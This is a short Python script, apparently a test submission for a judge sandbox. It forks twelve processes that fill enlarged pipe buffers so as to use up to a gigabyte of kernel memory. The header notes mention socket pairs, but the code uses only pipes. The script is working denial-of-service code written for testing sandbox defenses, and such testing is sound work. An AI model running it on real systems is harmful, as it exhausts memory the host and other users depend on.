#: tries: fills pipes and socket pairs, whose buffers belong to the kernel
#: task: sum
#: verdict: wrong_answer runtime_error memory_limit time_limit
#: harms: takes up to a gigabyte of kernel memory

import fcntl
import os
import socket
import time

for _ in range(12):
    if os.fork() == 0:
        kept = []
        try:
            while True:
                read, write = os.pipe()
                kept += [read, write]
                fcntl.fcntl(write, 1031, 1 << 20)
                os.set_blocking(write, False)
                while True:
                    os.write(write, bytes(1 << 16))
        except OSError:
            pass
        time.sleep(0.3)
        os._exit(0)
time.sleep(0.3)
